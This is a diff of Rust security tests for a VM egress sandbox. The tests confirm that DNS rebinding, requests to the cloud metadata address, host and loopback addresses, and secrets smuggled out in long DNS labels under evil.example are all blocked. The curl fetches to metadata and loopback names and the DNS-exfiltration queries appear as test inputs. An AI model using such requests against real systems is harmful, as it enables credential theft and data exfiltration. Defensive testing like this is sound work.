@@ -3,12 +3,12 @@
 use agentos::{AgentOs, EgressPolicy, Rule};
 use hickory_proto::op::ResponseCode;
 
+use crate::lab::capture::{TCP, UDP};
+use crate::lab::echo;
 use crate::lab::guest::{attempt, check_refused, is_refusal, sh, with_probe};
 use crate::lab::names::{Entry, Names};
 use crate::lab::web::{Site, Web};
 use crate::lab::{Lab, NAME_SERVER};
-use crate::lab::capture::{TCP, UDP};
-use crate::lab::echo;
 use crate::support::eventually;
 use crate::support::world::World;
 
@@ -39,13 +39,20 @@ impl Place {
     }
 }
 
-const FETCH: &str = "curl -sS -m 20 http://shifty.example/";
+fn fetch(name: &str) -> String {
+    format!("curl -sS -m 20 http://{name}/")
+}
+
+/// Neither an address nor a connection.
+fn is_unreached(said: &str) -> bool {
+    said.starts_with("curl: (6)") || said.starts_with("curl: (7)")
+}
 
 /// Asks as often as it takes for the former answer to be forgotten, and returns the first outcome that is another.
-async fn fetch_until_not(vm: &AgentOs, former: &str) -> String {
+async fn fetch_until_not(vm: &AgentOs, name: &str, former: &str) -> String {
     let outcome = std::sync::Mutex::new(String::new());
     eventually("the name to change", || async {
-        let now = sh(vm, FETCH).await;
+        let now = sh(vm, &fetch(name)).await;
         let changed = now != former;
         *outcome.lock().unwrap() = now;
         changed
@@ -57,20 +64,23 @@ async fn fetch_until_not(vm: &AgentOs, former: &str) -> String {
 #[tokio::test]
 async fn a_name_that_turns_to_a_private_address_leads_nowhere() {
     let Some(place) = Place::new().await else { return };
-    place.names.set("shifty.example", Entry::turns(&["198.51.100.80", "10.9.0.5"]));
-    assert_eq!(place.lab.outside(FETCH).await, "public");
-    assert_eq!(place.lab.outside(FETCH).await, "internal", "the control");
-    for policy in [
-        EgressPolicy::public(),
-        EgressPolicy::none().allow(Rule::name("shifty.example")),
-        EgressPolicy::public().allow(Rule::name("*.example")),
-    ] {
-        place.names.set("shifty.example", Entry::turns(&["198.51.100.80", "10.9.0.5"]));
+    let turning = || Entry::turns(&["198.51.100.80", "10.9.0.5"]);
+    place.names.set("outside.example", turning());
+    assert_eq!(place.lab.outside(&fetch("outside.example")).await, "public");
+    assert_eq!(place.lab.outside(&fetch("outside.example")).await, "internal", "the control");
+    // VMs of a sidecar share answers, so each has a name of its own.
+    let policies = [
+        ("one.example", EgressPolicy::public()),
+        ("two.example", EgressPolicy::none().allow(Rule::name("two.example"))),
+        ("three.example", EgressPolicy::public().allow(Rule::name("*.example"))),
+    ];
+    for (name, policy) in policies {
+        place.names.set(name, turning());
         let vm = place.vm(policy).await;
         let capture = place.lab.capture();
-        assert_eq!(sh(&vm, FETCH).await, "public");
-        let turned = fetch_until_not(&vm, "public").await;
-        assert!(turned.starts_with("curl: (7)") || turned.starts_with("curl: (6)"), "{turned}");
+        assert_eq!(sh(&vm, &fetch(name)).await, "public", "{name}");
+        let turned = fetch_until_not(&vm, name, "public").await;
+        assert!(is_unreached(&turned), "{name}: {turned}");
         let seen = capture.settle();
         seen.nothing_to("10.9.0.5");
         seen.something_to("198.51.100.80");
@@ -81,22 +91,35 @@ async fn a_name_that_turns_to_a_private_address_leads_nowhere() {
 #[tokio::test]
 async fn a_name_leads_to_a_private_address_only_where_the_rule_says_so() {
     let Some(place) = Place::new().await else { return };
-    place.names.set("shifty.example", Entry::addresses(&["10.9.0.5"]));
-    let permitted = Rule::name("shifty.example").to_private_addresses();
-    let vm = place.vm(EgressPolicy::none().allow(permitted)).await;
-    assert_eq!(sh(&vm, FETCH).await, "internal");
-    // Not even so to metadata, to the host's own and to its loopback.
+    // Not even so to metadata, to the host's own addresses and to its loopback.
     place.lab.host("metadata", &["169.254.169.254"]);
-    let metadata = Web::serve(place.lab.tcp("metadata", "169.254.169.254:80"), Site::Text("metadata"));
-    let own = Web::serve(place.lab.tcp("machine", "192.0.2.10:80"), Site::Text("own"));
-    for address in ["169.254.169.254", "192.0.2.10", "127.0.0.1"] {
-        place.names.set("shifty.example", Entry::addresses(&[address]).ttl_s(1));
-        let permitted = Rule::name("shifty.example").to_private_addresses();
-        let vm = place.vm(EgressPolicy::none().allow(permitted)).await;
-        let said = fetch_until_not(&vm, "internal").await;
-        assert!(said.starts_with("curl: (7)") || said.starts_with("curl: (6)"), "{address}: {said}");
+    let closed = [
+        Web::serve(place.lab.tcp("metadata", "169.254.169.254:80"), Site::Text("metadata")),
+        Web::serve(place.lab.tcp("machine", "192.0.2.10:80"), Site::Text("own")),
+        Web::serve(place.lab.tcp("machine", "127.0.0.1:80"), Site::Text("loopback")),
+    ];
+    let leads = [
+        ("internal.example", "10.9.0.5", "internal"),
+        ("metadata.example", "169.254.169.254", "metadata"),
+        ("own.example", "192.0.2.10", "own"),
+        ("loopback.example", "127.0.0.1", "loopback"),
+    ];
+    for (name, address, text) in leads {
+        place.names.set(name, Entry::addresses(&[address]));
+        assert_eq!(place.lab.outside(&fetch(name)).await, text, "the control");
     }
-    assert_eq!((metadata.asked().len(), own.asked().len()), (0, 0));
+    let vm = place.vm(EgressPolicy::none().allow(Rule::name("*.example"))).await;
+    for (name, ..) in leads {
+        let said = sh(&vm, &fetch(name)).await;
+        assert!(is_unreached(&said), "{name}: {said}");
+    }
+    let vm = place.vm(EgressPolicy::none().allow(Rule::name("*.example").to_private_addresses())).await;
+    assert_eq!(sh(&vm, &fetch("internal.example")).await, "internal");
+    for (name, ..) in &leads[1..] {
+        let said = sh(&vm, &fetch(name)).await;
+        assert!(is_unreached(&said), "{name}: {said}");
+    }
+    assert!(closed.iter().all(|web| web.asked().len() == 1), "the controls alone");
 }
 
 #[tokio::test]
@@ -137,7 +160,9 @@ async fn only_the_vm_s_own_resolver_answers() {
     let seen = capture.settle();
     seen.nothing_holding(b"hello");
     seen.nothing_to("198.51.100.80");
-    assert!(seen.to_port(TCP, "198.51.100.53:53").is_empty() && seen.to_port(UDP, "198.51.100.53:53").is_empty());
+    assert!(
+        seen.to_port(TCP, "198.51.100.53:53").is_empty() && seen.to_port(UDP, "198.51.100.53:53").is_empty()
+    );
     assert_eq!((elsewhere.count(), over_tls.count()), (1, 1), "the controls alone");
     // Who names a network means it.
     let vm = place.vm(EgressPolicy::public().allow(Rule::network("198.51.100.80"))).await;
@@ -147,7 +172,8 @@ async fn only_the_vm_s_own_resolver_answers() {
 #[tokio::test]
 async fn what_is_told_to_a_name_server_by_long_labels_never_leaves() {
     let Some(place) = Place::new().await else { return };
-    let secret = "c2VjcmV0LXRoYXQtbXVzdC1zdGF5LWluc2lkZQ";
+    // In one case: the resolver may write names in another.
+    let secret = "onfsg4tfoqqhg5dbpeqhk3rb";
     let name = format!("{secret}.{}.evil.example", "x".repeat(60));
     let open = place.vm(EgressPolicy::public()).await;
     let capture = place.lab.capture();
@@ -156,7 +182,12 @@ async fn what_is_told_to_a_name_server_by_long_labels_never_leaves() {
     let asked = place.names.asked().len();
     let vm = place.vm(EgressPolicy::none().allow(Rule::name("web.example"))).await;
     let capture = place.lab.capture();
-    for name in [name.clone(), name.to_uppercase(), format!("{secret}.web.example.evil.example"), format!("{secret}.web.example")] {
+    for name in [
+        name.clone(),
+        name.to_uppercase(),
+        format!("{secret}.web.example.evil.example"),
+        format!("{secret}.web.example"),
+    ] {
         assert_eq!(attempt(&vm, &format!("resolve {name}")).await, "unresolved", "{name}");
     }
     assert_eq!(attempt(&vm, "resolve web.example").await, "198.51.100.80");
